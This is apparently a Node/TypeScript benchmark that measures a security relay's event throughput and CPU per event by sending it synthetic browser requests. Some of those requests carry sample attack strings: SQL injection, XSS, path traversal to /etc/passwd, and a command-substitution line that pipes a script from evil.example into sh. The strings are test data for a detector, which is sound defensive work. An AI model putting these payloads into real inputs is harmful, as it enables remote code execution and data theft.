// The relay's throughput: events/s it sustains and its CPU per event, POST /v1/events over loopback.
//
//   node --import tsx bench/relay.ts [--seconds 10] [--connections 8] [--batch 100] [--attack-ratio 0.05] [--login-ratio 0.05]
//
// The relay runs in a child process (this script with --child), the load generator (undici Pool,
// keep-alive, fixed concurrency) in this one, so on a 2-core machine each gets about a core. Events are
// request events (browser-like benign requests with the variety of bench/agent.ts: new query values,
// new paths, many users) with a share of attacks and of failed logins. The agents' records go to a
// discarding transport by default (the relay's own cost: parse, check, inspect, encode-free queueing);
// BENCH_KAFKA=1 with KAFKA_BROKERS and SCHEMA_REGISTRY_URL produces them to a real broker (topic
// BENCH_TOPIC, default "attacks", must exist). CPU per event = the child's user+system CPU during the
// measured window / events accepted in it.

import { fork } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { cpus, loadavg } from 'node:os';
import { fileURLToPath } from 'node:url';
import { Pool } from 'undici';

const argv = process.argv.slice(2);
function arg(name: string, fallback: number): number {
  const i = argv.indexOf(`--${name}`);
  return i >= 0 && argv[i + 1] !== undefined ? Number(argv[i + 1]) : fallback;
}
const TOKEN = 'bench-token-0123456789abcdef';

async function child(): Promise<void> {
  const { createAgent } = await import('@risk-hub/agent');
  const { ConfigSchema } = await import('../src/config/schema.ts');
  const { createLogger } = await import('../src/log.ts');
  const { AgentPool } = await import('../src/relay/agents.ts');
  const { startRelay } = await import('../src/relay/server.ts');
  const kafka = process.env.BENCH_KAFKA === '1';
  const config = ConfigSchema.parse({
    kafka: { brokers: (process.env.KAFKA_BROKERS ?? '127.0.0.1:9092').split(',') },
    schemaRegistry: { url: process.env.SCHEMA_REGISTRY_URL ?? 'http://127.0.0.1:8081/apis/ccompat/v7' },
    topics: { attacks: process.env.BENCH_TOPIC ?? 'attacks' },
    relay: { port: 0, applications: { shop: { tokenEnv: 'BENCH_TOKEN' } }, queue: { maxEvents: 200_000, maxRequests: 256 } },
  });
  const log = createLogger({ level: 'warn', name: 'relay' });
  let sent = 0;
  const discard = { send: async (events: unknown[]) => ((sent += events.length), { rejected: [] }), close: async () => {} };
  const pool = kafka
    ? undefined
    : new AgentPool({ config, log, create: (application, environment) => createAgent({ application, environment, transport: discard as never, logger: null, maxQueue: 210_000 }) });
  const relay = await startRelay({ config, log, env: { BENCH_TOKEN: TOKEN }, ...(pool ? { pool } : {}) });
  process.on('message', (m: string) => {
    if (m === 'cpu') {
      const stats = relay.pool.all().map((a) => a.stats());
      process.send!({ cpu: process.cpuUsage(), sent: kafka ? stats.reduce((n, s) => n + s.sent, 0) : sent, dropped: stats.reduce((n, s) => n + s.dropped, 0) });
    } else if (m === 'stop') void relay.close(5000).then(() => process.exit(0));
  });
  process.on('disconnect', () => process.exit(0)); // the load generator is gone
  process.send!({ port: relay.port });
}

const WORDS = ['red', 'blue', 'running', 'shoes', 'wool', 'socks', 'espresso', 'machine', 'tea', 'jacket', 'lamp', 'keyboard', 'yoga', 'mat', 'bottle'];
const UAS = Array.from({ length: 12 }, (_, i) => `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1${20 + i}.0 Safari/537.36`);
const ATTACKS = ["' OR 1=1--", '<script>alert(1)</script>', '../../../../etc/passwd', '1; SELECT pg_sleep(10)--', '$(curl http://evil.example/x.sh | sh)'];
const pick = <T>(a: T[]): T => a[Math.floor(Math.random() * a.length)]!;

function event(attackRatio: number, loginRatio: number): unknown {
  const r = Math.random();
  const user = Math.random() < 0.3 ? null : { key: `u-${Math.floor(Math.random() * 20_000)}`, identifiers: {} };
  const ip = `198.51.${Math.floor(Math.random() * 256)}.${Math.floor(Math.random() * 256)}`;
  const headers = { 'user-agent': pick(UAS), accept: 'text/html,application/xhtml+xml', 'accept-language': 'en-US,en;q=0.9' };
  if (r < loginRatio) return { kind: 'login', id: randomUUID(), at: Date.now(), success: false, user: user ?? { key: `login-${Math.floor(Math.random() * 5000)}` }, request: { method: 'POST', uri: '/login', ip, headers } };
  const q = r < loginRatio + attackRatio ? pick(ATTACKS) : `${pick(WORDS)} ${pick(WORDS)}${Math.random() < 0.5 ? ` ${Math.floor(Math.random() * 1e6)}` : ''}`;
  const path = Math.random() < 0.5 ? '/search' : `/users/u-${Math.floor(Math.random() * 1e6)}`;
  return { kind: 'request', id: randomUUID(), at: Date.now(), user, request: { method: 'GET', uri: `${path}?q=${encodeURIComponent(q)}`, ip, headers, query: { q: [q] }, cookies: { sid: randomUUID() } } };
}

async function parent(): Promise<void> {
  const seconds = arg('seconds', 10);
  const connections = arg('connections', 8);
  const batch = arg('batch', 100);
  const attackRatio = arg('attack-ratio', 0.05);
  const loginRatio = arg('login-ratio', 0.05);
  const proc = fork(fileURLToPath(import.meta.url), ['--child'], { execArgv: ['--import', 'tsx'], stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  const ask = <T>(m: string): Promise<T> =>
    new Promise((resolve) => {
      proc.once('message', (x) => resolve(x as T));
      proc.send(m);
    });
  const { port } = await new Promise<{ port: number }>((resolve) => proc.once('message', (x) => resolve(x as { port: number })));
  const http = new Pool(`http://127.0.0.1:${port}`, { connections, pipelining: 1 });
  // bodies prepared ahead (the generator's own cost stays out of the relay's core)
  const bodies = Array.from({ length: 400 }, () => JSON.stringify({ agent: { name: 'bench', version: '0', language: 'bench' }, application_id: 'shop', environment: 'production', events: Array.from({ length: batch }, () => event(attackRatio, loginRatio)) }));
  const headers = { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' };
  let accepted = 0;
  let detections = 0;
  let refused = 0;
  let stopAt = 0;
  async function worker(): Promise<void> {
    while (Date.now() < stopAt) {
      const res = await http.request({ path: '/v1/events', method: 'POST', headers, body: pick(bodies) });
      const text = await res.body.text();
      if (res.statusCode === 202) {
        const b = JSON.parse(text) as { accepted: number; detections: number };
        accepted += b.accepted;
        detections += b.detections;
      } else refused++;
    }
  }
  // warm-up, then the measured window
  stopAt = Date.now() + 3000;
  await Promise.all(Array.from({ length: connections }, worker));
  accepted = detections = refused = 0;
  const before = await ask<{ cpu: NodeJS.CpuUsage; sent: number }>('cpu');
  const t0 = process.hrtime.bigint();
  stopAt = Date.now() + seconds * 1000;
  await Promise.all(Array.from({ length: connections }, worker));
  const elapsed = Number(process.hrtime.bigint() - t0) / 1e9;
  const after = await ask<{ cpu: NodeJS.CpuUsage; sent: number; dropped: number }>('cpu');
  const cpuMicros = after.cpu.user - before.cpu.user + (after.cpu.system - before.cpu.system);
  await http.close();
  proc.send('stop');
  const row = {
    machine: `${cpus().length} × ${cpus()[0]?.model ?? '?'}, load ${loadavg()[0]!.toFixed(2)}`,
    transport: process.env.BENCH_KAFKA === '1' ? 'kafka' : 'discard',
    'events/s': Math.round(accepted / elapsed),
    'requests/s': Math.round(accepted / batch / elapsed),
    'CPU µs per event (relay process)': (cpuMicros / accepted).toFixed(1),
    'relay CPU (cores)': (cpuMicros / 1e6 / elapsed).toFixed(2),
    'detections/s': Math.round(detections / elapsed),
    'records sent in window': after.sent - before.sent,
    'dropped (total)': after.dropped,
    '503 or other refusals': refused,
    settings: `--seconds ${seconds} --connections ${connections} --batch ${batch} --attack-ratio ${attackRatio} --login-ratio ${loginRatio}`,
  };
  console.log('| figure | value |\n|---|---|');
  for (const [k, v] of Object.entries(row)) console.log(`| ${k} | ${v} |`);
}

if (argv.includes('--child')) await child();
else await parent();
